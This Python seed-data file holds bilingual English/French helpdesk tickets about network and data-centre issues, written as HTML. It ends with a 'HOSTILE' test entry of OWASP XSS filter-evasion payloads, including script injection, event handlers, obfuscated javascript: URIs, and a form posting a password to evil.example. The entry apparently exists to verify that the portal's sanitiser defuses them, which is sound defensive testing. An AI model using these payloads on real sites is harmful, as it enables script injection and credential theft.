"""Support ticket stories, each written once in English and once in French.

A customer's tickets are told in its language (``people.FRENCH_SPEAKING``). Descriptions are
helpdesk HTML: paragraphs, lists, emphasis, links and tables; the seed sanitises them as the
integration API does. ``HOSTILE`` is the one description written to attack the portal (OWASP
filter-evasion examples): the sanitiser must defuse it, and a browser test checks it stays inert.
"""

from typing import NamedTuple


class TicketStory(NamedTuple):
    kind: str  # "incident" or "request"
    subject_en: str
    subject_fr: str
    description_en: str
    description_fr: str


STORIES: tuple[TicketStory, ...] = (
    TicketStory(
        "incident",
        "Total loss of service on the Paris–Lyon wavelength",
        "Perte totale de service sur la longueur d'onde Paris–Lyon",
        "<p>Since <strong>03:12 UTC</strong> our 100G wavelength between Paris and Lyon is "
        "down.</p><ul><li>Both ends show <em>LOS</em> on the client port</li>"
        "<li>No work was planned on our side</li></ul><p>Please investigate urgently.</p>",
        "<p>Depuis <strong>03 h 12 UTC</strong>, notre longueur d'onde 100G entre Paris et Lyon "
        "est coupée.</p><ul><li>Les deux extrémités affichent <em>LOS</em> sur le port client</li>"
        "<li>Aucune intervention n'était prévue de notre côté</li></ul>"
        "<p>Merci d'intervenir en urgence.</p>",
    ),
    TicketStory(
        "incident",
        "Packet loss on IP transit during peak hours",
        "Pertes de paquets sur le transit IP aux heures de pointe",
        "<p>We measure 2 to 4 % packet loss towards several destinations between 19:00 and "
        "23:00.</p><p>MTR traces are attached. Could you check the utilisation of the "
        "aggregation link?</p>",
        "<p>Nous mesurons entre 2 et 4 % de pertes de paquets vers plusieurs destinations entre "
        "19 h et 23 h.</p><p>Les traces MTR sont jointes. Pourriez-vous vérifier l'occupation du "
        "lien d'agrégation ?</p>",
    ),
    TicketStory(
        "incident",
        "CRC errors on the cross-connect in room 2",
        "Erreurs CRC sur la jarretière de la salle 2",
        "<p>The switch port facing your patch panel counts thousands of CRC errors per hour.</p>"
        "<p>Could remote hands clean the connectors or replace the patch cord?</p>",
        "<p>Le port du commutateur face à votre panneau de brassage compte des milliers "
        "d'erreurs CRC par heure.</p><p>Une intervention sur site peut-elle nettoyer les "
        "connecteurs ou remplacer le cordon ?</p>",
    ),
    TicketStory(
        "incident",
        "BGP session flapping with our AS",
        "Session BGP instable avec notre AS",
        "<p>The IPv6 BGP session has gone down and up <strong>14 times</strong> since this "
        "morning (hold timer expired).</p><p>The IPv4 session is stable.</p>",
        "<p>La session BGP IPv6 est tombée puis remontée <strong>14 fois</strong> depuis ce "
        "matin (expiration du hold timer).</p><p>La session IPv4 est stable.</p>",
    ),
    TicketStory(
        "incident",
        "High temperature alarm in our cage",
        "Alarme de température élevée dans notre cage",
        "<p>Our sensors report 31 °C at the top of rack B04 since 14:00.</p>"
        "<p>Is the cooling of the room working normally?</p>",
        "<p>Nos sondes indiquent 31 °C en haut de la baie B04 depuis 14 h.</p>"
        "<p>La climatisation de la salle fonctionne-t-elle normalement ?</p>",
    ),
    TicketStory(
        "incident",
        "4G backup router does not take over",
        "Le routeur de secours 4G ne prend pas le relais",
        "<p>During last night's fibre cut the 4G backup stayed idle and the site was "
        "unreachable for 40 minutes.</p><p>Please check the failover configuration.</p>",
        "<p>Lors de la coupure fibre de cette nuit, le secours 4G est resté inactif et le site "
        "a été injoignable pendant 40 minutes.</p><p>Merci de vérifier la configuration de "
        "bascule.</p>",
    ),
    TicketStory(
        "incident",
        "SIP trunk: one-way audio on outgoing calls",
        "Trunk SIP : audio unidirectionnel sur les appels sortants",
        "<p>Since the firewall upgrade, the called party cannot hear us on about one call in "
        "five.</p><p>SIP traces of two failed calls are attached.</p>",
        "<p>Depuis la mise à jour du pare-feu, le correspondant ne nous entend pas sur environ "
        "un appel sur cinq.</p><p>Les traces SIP de deux appels en échec sont jointes.</p>",
    ),
    TicketStory(
        "incident",
        "DDoS attack on our web front ends",
        "Attaque DDoS sur nos frontaux web",
        "<p>We are receiving about 18 Gbit/s of UDP traffic towards 203.0.113.0/26.</p>"
        "<p>Please activate mitigation for this prefix.</p>",
        "<p>Nous recevons environ 18 Gbit/s de trafic UDP vers 203.0.113.0/26.</p>"
        "<p>Merci d'activer la mitigation pour ce préfixe.</p>",
    ),
    TicketStory(
        "request",
        "Request for a new 10G cross-connect",
        "Demande d'une nouvelle jarretière 10G",
        "<p>Please install a single-mode fibre cross-connect between our rack and the carrier "
        "meet-me room.</p><ul><li>Connector: LC/UPC</li><li>Port: 23 on panel PP-02</li></ul>",
        "<p>Merci d'installer une jarretière fibre monomode entre notre baie et la salle "
        "d'interconnexion opérateurs.</p><ul><li>Connecteur : LC/UPC</li>"
        "<li>Port : 23 sur le panneau PP-02</li></ul>",
    ),
    TicketStory(
        "request",
        "Update the technical contacts of our account",
        "Mise à jour des contacts techniques de notre compte",
        "<p>Please replace our night-time escalation contact with the NOC mailbox.</p>",
        "<p>Merci de remplacer notre contact d'astreinte de nuit par la boîte aux lettres du "
        "NOC.</p>",
    ),
    TicketStory(
        "request",
        "Reverse DNS delegation for our IPv6 block",
        "Délégation du DNS inverse pour notre bloc IPv6",
        "<p>Could you delegate the reverse zone of 2001:db8:4f00::/48 to our name servers "
        "<em>ns1</em> and <em>ns2</em>?</p>",
        "<p>Pourriez-vous déléguer la zone inverse de 2001:db8:4f00::/48 à nos serveurs de noms "
        "<em>ns1</em> et <em>ns2</em> ?</p>",
    ),
    TicketStory(
        "request",
        "Visitor access for a supplier engineer",
        "Accès visiteur pour un technicien fournisseur",
        "<p>Please grant access to the data centre for one engineer next Tuesday, 09:00 to "
        "17:00, to replace a power supply in rack A12.</p>",
        "<p>Merci d'autoriser l'accès au centre de données à un technicien mardi prochain, de "
        "9 h à 17 h, pour remplacer une alimentation dans la baie A12.</p>",
    ),
    TicketStory(
        "request",
        "Reason for outage (RFO) for last week's incident",
        "Rapport d'incident (RFO) pour la coupure de la semaine dernière",
        "<p>Our management asks for a written reason-for-outage report with the timeline and "
        "the corrective actions.</p>",
        "<p>Notre direction demande un rapport d'incident écrit avec la chronologie et les "
        "actions correctives.</p>",
    ),
    TicketStory(
        "request",
        "Increase the bandwidth of our internet access to 1 Gbit/s",
        "Augmenter le débit de notre accès internet à 1 Gbit/s",
        "<p>We would like to upgrade the access of our Nantes office from 500 Mbit/s to "
        "1 Gbit/s. What are the delay and the impact?</p>",
        "<p>Nous souhaitons passer l'accès de notre agence de Nantes de 500 Mbit/s à "
        "1 Gbit/s. Quels sont le délai et l'impact ?</p>",
    ),
    TicketStory(
        "incident",
        "Intermittent latency on the Lyon–Marseille ethernet line",
        "Latence intermittente sur la ligne ethernet Lyon–Marseille",
        "<p>Our monitoring shows latency peaks on the line, see the figures below.</p>"
        "<table><thead><tr><th>Time (UTC)</th><th>Latency</th><th>Loss</th></tr></thead>"
        "<tbody><tr><td>08:00</td><td>4.1 ms</td><td>0 %</td></tr>"
        "<tr><td>08:15</td><td>38.7 ms</td><td>1.2 %</td></tr>"
        "<tr><td>08:30</td><td>4.3 ms</td><td>0 %</td></tr></tbody></table>"
        "<ol><li>The router log and a traffic graph are attached.</li>"
        '<li>Our status page: <a href="https://status.acme-networks.test/incidents/118">'
        "incident 118</a>.</li></ol>"
        '<p>Contact our NOC at <a href="mailto:noc@acme-networks.test">'
        "noc@acme-networks.test</a>.</p>",
        "<p>Notre supervision relève des pics de latence sur la ligne, voir ci-dessous.</p>"
        "<table><thead><tr><th>Heure (UTC)</th><th>Latence</th><th>Pertes</th></tr></thead>"
        "<tbody><tr><td>08:00</td><td>4,1 ms</td><td>0 %</td></tr>"
        "<tr><td>08:15</td><td>38,7 ms</td><td>1,2 %</td></tr>"
        "<tr><td>08:30</td><td>4,3 ms</td><td>0 %</td></tr></tbody></table>"
        "<ol><li>Le journal du routeur et un graphe de trafic sont joints.</li>"
        '<li>Notre page d\'état : <a href="https://status.acme-networks.test/incidents/118">'
        "incident 118</a>.</li></ol>"
        '<p>Contactez notre NOC : <a href="mailto:noc@acme-networks.test">'
        "noc@acme-networks.test</a>.</p>",
    ),
    TicketStory(
        "request",
        "Change window for the firmware upgrade of our CPE",
        "Créneau pour la mise à jour logicielle de notre CPE",
        "<p>We would like to schedule the firmware upgrade of our CPE:</p>"
        "<ul><li><strong>Preferred:</strong> Tuesday 22:00–23:00</li>"
        "<li><strong>Fallback:</strong> Thursday 22:00–23:00</li></ul>"
        '<p>Release notes: <a href="https://vendor.example/firmware/7.4">firmware 7.4</a>.'
        "</p><blockquote>Expected outage: under 10 minutes.</blockquote>",
        "<p>Nous souhaitons planifier la mise à jour logicielle de notre CPE :</p>"
        "<ul><li><strong>Souhaité :</strong> mardi 22 h–23 h</li>"
        "<li><strong>Repli :</strong> jeudi 22 h–23 h</li></ul>"
        '<p>Notes de version : <a href="https://vendor.example/firmware/7.4">firmware 7.4</a>.'
        "</p><blockquote>Coupure attendue : moins de 10 minutes.</blockquote>",
    ),
)

# A description written by an attacker (OWASP XSS filter-evasion examples): sanitised by the
# seed like any other, so what is stored and shown is inert text and a harmless link.
HOSTILE = TicketStory(
    "incident",
    "Suspicious content pasted from a web form",
    "Contenu suspect collé depuis un formulaire web",
    "<p>Pasted from our web form:</p>"
    "<script>alert('XSS')</script>"
    "<img src=x onerror=\"alert('XSS')\">"
    "<a href=\"javascript:alert('XSS')\">click here</a> "
    "<a href=\"jav&#x09;ascript:alert('XSS');\">or here</a> "
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">or there</a>'
    '<p style="background:url(javascript:alert(1))" onmouseover="alert(\'XSS\')">'
    'Hover me</p><<SCRIPT>alert("XSS");//\\<</SCRIPT>'
    "<style>body { display: none; }</style>"
    '<form action="https://evil.example"><input name="password"></form>'
    "<iframe src=\"javascript:alert('XSS')\"></iframe><svg/onload=alert('XSS')>",
    "<p>Collé depuis notre formulaire web :</p>"
    "<script>alert('XSS')</script>"
    "<img src=x onerror=\"alert('XSS')\">"
    "<a href=\"javascript:alert('XSS')\">cliquez ici</a> "
    "<a href=\"jav&#x09;ascript:alert('XSS');\">ou ici</a> "
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ou là</a>'
    '<p style="background:url(javascript:alert(1))" onmouseover="alert(\'XSS\')">'
    'Survolez-moi</p><<SCRIPT>alert("XSS");//\\<</SCRIPT>'
    "<style>body { display: none; }</style>"
    '<form action="https://evil.example"><input name="password"></form>'
    "<iframe src=\"javascript:alert('XSS')\"></iframe><svg/onload=alert('XSS')>",
)
